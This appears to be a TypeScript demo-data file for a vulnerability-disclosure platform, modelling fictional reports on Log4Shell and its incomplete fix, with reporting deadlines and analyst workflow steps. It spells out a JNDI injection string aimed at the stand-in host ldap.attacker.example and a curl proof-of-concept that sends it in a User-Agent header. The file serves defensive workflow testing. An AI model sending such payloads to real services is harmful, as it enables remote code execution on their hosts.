import type { DemoReport } from './world.ts';

/**
 * The acceptance scenario: Nimbus Cloud became aware of a critical RCE in Apache Log4j2 on 2021-11-24, reported it
 * to the upstream project the same day and to the platform only on 2021-12-09 — 13 days after the CN 2021 deadline.
 * The KEV entry makes it actively exploited, so the EU CRA Art. 14 obligations apply too; the final report follows
 * the fix of 2021-12-10. Plus a member's duplicate and the follow-up flaw in the first fix.
 */

const AWARE = '2021-11-24T10:00:00.000Z';
/** The attack strings, spelled out: they are data, not template placeholders. */
const JNDI = `$\{jndi:ldap://…}`;
const JNDI_POC = `$\{jndi:ldap://ldap.attacker.example/a}`;

const log4jCore = {
  vendor: 'Apache Software Foundation',
  product: 'Apache Log4j2',
  model: 'log4j-core',
  purl: 'pkg:maven/org.apache.logging.log4j/log4j-core',
};

export const log4shell: DemoReport = {
  key: 'log4shell',
  submitted: { at: '2021-12-09T10:00:00.000Z', by: 'reporter@cloud.demo', stage: 'initial' },
  fromCve: 'CVE-2021-44228',
  content: {
    title: 'Remote code execution in Apache Log4j2 via JNDI lookups in logged messages',
    technicalDetails:
      `Message lookup substitution resolves ${JNDI} in logged strings; the LDAP answer names a remote ` +
      'class that the JVM loads and runs. Found in our log ingestion service on 2021-11-24 while reviewing an ' +
      'incident, and reported to the Apache Logging PMC the same day.',
    impact: 'Unauthenticated remote code execution as the application user.',
    scopeOfImpact:
      'Every Java application that logs attacker-controlled input with log4j-core 2.0-beta9 to 2.14.1; at Nimbus: ' +
      'managed log ingestion, the API gateway and the search service.',
    products: [{ ...log4jCore, versions: [{ scheme: 'semver', introduced: '2.0.0', fixed: '2.15.0' }] }],
    cwes: ['CWE-502', 'CWE-400', 'CWE-20'],
    cvssV31: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
    exploitation: 'none',
    timeline: { discoveredAt: AWARE, awareAt: AWARE, vendorNotifiedAt: AWARE },
    tlp: 'AMBER',
    tier: 'important',
  },
  steps: [
    {
      at: '2021-12-09T10:05:00.000Z',
      by: 'reporter@cloud.demo',
      do: 'attach',
      filename: 'poc-jndi-lookup.txt',
      mediaType: 'text/plain',
      text:
        'Proof of concept (DEMO, harmless: the LDAP host does not exist)\n\n' +
        '1. Start any service that logs the User-Agent header with log4j-core 2.14.1.\n' +
        `2. curl -H 'User-Agent: ${JNDI_POC}' https://service.example/\n` +
        '3. The service opens an LDAP connection to ldap.attacker.example:389 (see tcpdump).\n',
    },
    { at: '2021-12-09T11:00:00.000Z', by: 'analyst@operator.demo', do: 'assign', to: 'analyst@operator.demo' },
    {
      at: '2021-12-09T11:05:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'triaged',
      reason: 'Critical, unauthenticated RCE in a ubiquitous library: handled at once.',
    },
    {
      at: '2021-12-09T11:30:00.000Z',
      by: 'analyst@operator.demo',
      do: 'comment',
      body:
        'Your timeline says Nimbus became aware of this on 2021-11-24. The CN 2021 Provisions required a report ' +
        'to the platform by 2021-11-26. Please explain the delay.',
    },
    {
      at: '2021-12-09T14:00:00.000Z',
      by: 'reporter@cloud.demo',
      do: 'comment',
      body:
        'We reported to the Apache Logging PMC on 2021-11-24 and waited for their fix before telling anyone else. ' +
        'We did not treat the platform report as a separate, earlier deadline; this is being corrected.',
    },
    {
      at: '2021-12-10T08:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'confirmed',
      reason: 'Reproduced against log4j-core 2.14.1 with the attached proof of concept; exploited in the wild.',
    },
    {
      at: '2021-12-10T12:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'fix_available',
      reason: 'Apache Log4j 2.15.0 released on 2021-12-10.',
    },
    {
      at: '2021-12-15T10:00:00.000Z',
      by: 'reporter@cloud.demo',
      do: 'timeline',
      field: 'fixAvailableAt',
      value: '2021-12-10T00:00:00.000Z',
      reason: 'Log4j 2.15.0 released',
    },
    {
      at: '2021-12-15T10:05:00.000Z',
      by: 'reporter@cloud.demo',
      do: 'stage',
      stage: 'final_report',
      patch: {
        technicalDetails:
          `Message lookup substitution resolves ${JNDI} in logged strings; the LDAP answer names a ` +
          'remote class that the JVM loads and runs. Fixed in 2.15.0 (lookups off by default, JNDI restricted); ' +
          'every Nimbus service was on 2.15.0 or later by 2021-12-14.',
      },
    },
    {
      at: '2021-12-15T11:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'comment',
      body: 'Final report received within the CRA 14-day window after the fix. Thank you.',
    },
    {
      at: '2021-12-16T09:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'published',
      reason: 'Security warning issued to all members.',
    },
  ],
};

export const log4shellDuplicate: DemoReport = {
  key: 'log4shell-bank',
  submitted: { at: '2021-12-11T08:30:00.000Z', by: 'reporter@bank.demo', stage: 'initial' },
  fromCve: 'CVE-2021-44228',
  content: {
    title: 'Log4j JNDI exploitation attempts against our payment gateway',
    description:
      `Our web application firewall sees ${JNDI} strings in request headers against the payment gateway, ` +
      'which runs a Java stack with Log4j2.',
    exploitation: 'active',
    exploitationEvidence:
      `WAF logs show ${JNDI} in User-Agent headers from 2021-12-10 21:40 UTC onwards, and one outbound ` +
      'LDAP connection from a staging host at 22:05 UTC.',
    // The record's own ranges use versionType 'custom', which the report checks cannot order.
    products: [{ ...log4jCore, versions: [{ scheme: 'semver', introduced: '2.0.0', fixed: '2.15.0' }] }],
    timeline: { awareAt: '2021-12-10T21:40:00.000Z' },
    tlp: 'AMBER+STRICT',
  },
  steps: [
    {
      at: '2021-12-11T09:15:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'duplicate',
      duplicateOf: 'log4shell',
      reason:
        'Same vulnerability as the Nimbus Cloud report (CVE-2021-44228); the exploitation evidence is noted there.',
    },
    {
      at: '2021-12-11T09:20:00.000Z',
      by: 'analyst@operator.demo',
      do: 'comment',
      body: 'Thank you. A warning for CVE-2021-44228 is being prepared; upgrade to 2.15.0 or remove the JndiLookup class.',
    },
  ],
};

export const log4jIncompleteFix: DemoReport = {
  key: 'log4j-45046',
  submitted: { at: '2021-12-15T16:00:00.000Z', by: 'reporter@cloud.demo', stage: 'initial' },
  fromCve: 'CVE-2021-45046',
  content: {
    title: 'Log4j 2.15.0 fix incomplete: lookups through the Thread Context Map',
    technicalDetails:
      'With a non-default pattern layout using a Context Lookup (e.g. $${ctx:loginId}), attacker-controlled ' +
      'Thread Context Map data still reaches the JNDI lookup in 2.15.0.',
    impact: 'Information leak and remote code execution in some environments, local code execution in all.',
    scopeOfImpact: 'Services on Log4j 2.15.0 with custom pattern layouts; at Nimbus: two internal batch services.',
    products: [{ ...log4jCore, versions: [{ scheme: 'semver', introduced: '2.0.0', fixed: '2.16.0' }] }],
    cvssV31: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H',
    timeline: {
      awareAt: '2021-12-14T18:00:00.000Z',
      fixAvailableAt: '2021-12-13T00:00:00.000Z',
      publiclyDisclosedAt: '2021-12-14T16:55:09.000Z',
    },
    tier: 'important',
  },
  steps: [
    {
      at: '2021-12-15T17:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'triaged',
      reason: 'Follow-up to the Log4Shell report.',
    },
    {
      at: '2021-12-16T09:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'confirmed',
      reason: 'Confirmed with Apache.',
    },
    {
      at: '2021-12-16T09:05:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'fix_available',
      reason: 'Log4j 2.16.0 removes message lookups and disables JNDI by default.',
    },
    {
      at: '2022-01-10T09:00:00.000Z',
      by: 'analyst@operator.demo',
      do: 'transition',
      to: 'closed',
      reason: 'Covered by the Log4Shell warning; members were told to move to 2.17.1. No final report was sent.',
    },
  ],
};
